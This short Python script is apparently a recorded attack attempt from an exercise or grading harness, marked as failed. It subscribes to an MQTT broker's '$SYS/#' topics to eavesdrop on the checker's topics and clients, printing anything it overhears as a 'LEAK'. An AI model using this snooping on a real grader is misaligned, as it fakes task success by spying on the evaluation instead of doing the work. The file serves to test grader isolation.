# attack: looks in $SYS for the topics and clients of the checker
# lesson: 3
# with: solution
# outcome: failed
# says: reading
import os as _os

import paho.mqtt.client as _mqtt

from mqttkit import make_client as _make_client


def _heard(client, userdata, message):
    if b"checker" in message.payload or _os.environ["OUT_TOPIC"] in message.topic:
        print("LEAK", message.topic, message.payload)


_spy = _make_client()
_spy.on_message = _heard
_spy.on_connect = lambda client, *_: client.subscribe("$SYS/#")
_spy.connect(_os.environ["MQTT_HOST"], int(_os.environ["MQTT_PORT"]))
_spy.loop_start()
